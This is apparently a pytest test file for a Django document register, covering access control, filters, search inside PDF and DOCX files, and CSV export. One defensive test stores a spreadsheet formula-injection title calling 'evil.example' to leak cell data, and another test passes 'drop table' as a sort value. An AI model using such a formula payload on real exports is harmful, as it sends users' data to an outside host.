"""The register: who sees what, filters, search over revision text, CSV, constant query counts."""

import csv
import io

import pytest
from django.urls import reverse

from documents import workflow
from documents.models import Confidentiality, Document, Revision
from tests.documents.conftest import docx_bytes, draft_document, make_effective, pdf_upload, upload

pytestmark = pytest.mark.django_db
REGISTER = reverse("documents:register")


def numbers(client, **params):
    response = client.get(REGISTER, params)
    assert response.status_code == 200
    return [d.number for d in response.context["page"]]


def test_effective_internal_documents_are_readable_agency_wide(effective, outsider, client):
    client.force_login(outsider)
    assert numbers(client) == [effective.number]
    assert client.get(effective.get_absolute_url()).status_code == 200


def test_drafts_are_seen_only_by_their_department_and_quality_managers(
    draft, outsider, colleague, quality_manager, client
):
    for person, expected in [
        (outsider, []),
        (colleague, [draft.number]),
        (quality_manager, [draft.number]),
    ]:
        client.force_login(person)
        assert numbers(client) == expected, person.username
    client.force_login(outsider)
    assert client.get(draft.get_absolute_url()).status_code == 404


def test_restricted_documents_only_for_their_departments(
    owner, department_a, department_b, colleague, quality_manager, outsider, auditor, client
):
    document = draft_document(
        owner,
        department_a,
        confidentiality=Confidentiality.RESTRICTED,
        restricted_to=[department_a],
    )
    make_effective(document.revisions.get(), reviewer=colleague, approver=quality_manager)
    client.force_login(outsider)
    assert numbers(client) == []
    assert client.get(document.get_absolute_url()).status_code == 404
    revision = document.revisions.get()
    assert (
        client.get(reverse("documents:download", args=[document.pk, revision.pk])).status_code
        == 404
    )
    client.force_login(auditor)
    assert numbers(client) == [document.number]


def test_other_agencies_and_unshared_certifiers_see_nothing(
    effective, stranger, unshared_certifier, certifier, quality_manager, client
):
    for person in [stranger, unshared_certifier, certifier]:
        client.force_login(person)
        assert numbers(client) == []
        assert client.get(effective.get_absolute_url()).status_code == 404
    workflow.share_with_certifier(document=effective, certifier=certifier, actor=quality_manager)
    client.force_login(certifier)
    assert numbers(client) == [effective.number]


def test_filters_by_department_type_status_owner_and_due(
    effective, owner, department_a, quality_manager, department_b, client
):
    other = draft_document(
        quality_manager, department_b, title="Street cleaning", doc_type="instruction"
    )
    client.force_login(quality_manager)
    assert numbers(client, department=department_a.pk) == [effective.number]
    assert numbers(client, doc_type="instruction") == [other.number]
    assert numbers(client, status="effective") == [effective.number]
    assert numbers(client, status="draft") == [other.number]
    assert numbers(client, owner=quality_manager.pk) == [other.number]
    assert numbers(client, due="on") == []
    Document.objects.filter(pk=effective.pk).update(next_review_due="2020-01-01")
    assert numbers(client, due="on") == [effective.number]
    assert numbers(client, sort="-number") == sorted([effective.number, other.number], reverse=True)


def test_bad_filter_values_are_ignored_not_500(effective, quality_manager, client):
    client.force_login(quality_manager)
    response = client.get(REGISTER, {"department": "abc", "sort": "drop table", "page": "999"})
    assert response.status_code == 200


def test_search_finds_number_title_and_text_inside_pdf_and_docx(
    owner, department_a, quality_manager, client, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        pdf = draft_document(
            owner,
            department_a,
            title="Supplier payments",
            upload=pdf_upload(text="invoice threshold"),
        )
        docx = draft_document(
            owner,
            department_a,
            title="Counter work",
            upload=upload("counter.docx", docx_bytes("queue ticket 窗口受理")),
        )
    client.force_login(quality_manager)
    assert numbers(client, q="invoice") == [pdf.number]
    assert numbers(client, q="ticket") == [docx.number]
    assert numbers(client, q="窗口受理") == [docx.number]
    assert numbers(client, q=docx.number) == [docx.number]
    assert numbers(client, q="Supplier") == [pdf.number]
    assert numbers(client, q="nothing-like-this") == []


def test_search_reads_only_revisions_the_searcher_may_read(
    owner,
    colleague,
    outsider,
    department_a,
    quality_manager,
    client,
    django_capture_on_commit_callbacks,
):
    """A next draft's words must not reveal a document to readers of its effective revision."""
    with django_capture_on_commit_callbacks(execute=True):
        document = draft_document(
            owner, department_a, title="Supplier payments", upload=pdf_upload(text="invoice")
        )
        make_effective(document.revisions.get(), reviewer=colleague, approver=quality_manager)
        workflow.start_revision(
            document=document,
            actor=owner,
            change_summary="Planned change",
            upload=pdf_upload(text="confidential restructuring plan"),
        )
    client.force_login(outsider)
    assert numbers(client, q="invoice") == [document.number]
    assert numbers(client, q="restructuring") == []
    for person in (owner, quality_manager):
        client.force_login(person)
        assert numbers(client, q="restructuring") == [document.number]


def register_csv(client, **params):
    response = client.get(REGISTER, {"export": "csv", **params})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content).decode()
    assert content.startswith("\ufeff")  # the BOM: spreadsheets read Chinese names right
    return list(csv.reader(io.StringIO(content[1:])))


def test_csv_export_lists_the_filtered_register(effective, quality_manager, client):
    client.force_login(quality_manager)
    rows = register_csv(client)
    assert rows[0][0] == "number"
    assert rows[1][0] == effective.number and rows[1][7] == "effective"


def test_csv_export_writes_a_formula_title_as_text(owner, department_a, quality_manager, client):
    """A title typed as a spreadsheet formula must not run when the register is opened."""
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    document = draft_document(owner, department_a, title=title)
    client.force_login(quality_manager)
    rows = register_csv(client)
    row = next(r for r in rows[1:] if r[0] == document.number)
    assert row[1] == "'" + title
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


def test_csv_headers_are_in_the_readers_language(effective, quality_manager, client):
    quality_manager.language = "zh-hans"
    quality_manager.save(update_fields=["language"])
    client.force_login(quality_manager)
    header = register_csv(client)[0]
    assert header[:3] == ["编号", "标题", "类型"]


@pytest.mark.parametrize(
    "persona, shown",
    [
        ("owner", True),
        ("quality_manager", True),
        ("administrator", True),  # may register one: the link is offered (it was hidden)
        ("certifier", False),
    ],
)
def test_the_new_document_link_is_shown_exactly_to_who_may_create(persona, shown, request, client):
    person = request.getfixturevalue(persona)
    client.force_login(person)
    page = client.get(REGISTER).content.decode()
    assert (reverse("documents:create") in page) is shown
    assert client.get(reverse("documents:create")).status_code == (200 if shown else 403)


def bulk_documents(count, owner, department):
    revision_template = Revision.objects.first()
    start = Document.objects.count()
    documents = Document.objects.bulk_create(
        [
            Document(
                agency=department.agency,
                number=f"BULK-{start + n:05d}",
                title=f"Bulk {n}",
                doc_type="procedure",
                owner_department=department,
                owner=owner,
            )
            for n in range(count)
        ]
    )
    Revision.objects.bulk_create(
        [
            Revision(
                document=d,
                label="A",
                change_summary="x",
                author=owner,
                status="effective",
                file=revision_template.file.name,
                storage_name=revision_template.storage_name,
                original_filename="x.pdf",
                file_kind="pdf",
                file_size=1,
                sha256=revision_template.sha256,
            )
            for d in documents
        ]
    )


def count_queries(client, url, params=None):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client.get(url, params or {})  # warm up: the first request of a session also writes it
    connection.queries_log.clear()
    with CaptureQueriesContext(connection) as context:
        response = client.get(url, params or {})
    assert response.status_code == 200
    assert context.captured_queries, "no query captured: the count would prove nothing"
    return len(context.captured_queries)


def test_register_queries_do_not_grow_with_rows(effective, owner, department_a, outsider, client):
    client.force_login(outsider)
    bulk_documents(9, owner, department_a)
    small = count_queries(client, REGISTER)
    bulk_documents(190, owner, department_a)
    assert count_queries(client, REGISTER) == small
    assert count_queries(client, REGISTER, {"page": 3, "q": "Bulk"}) == small
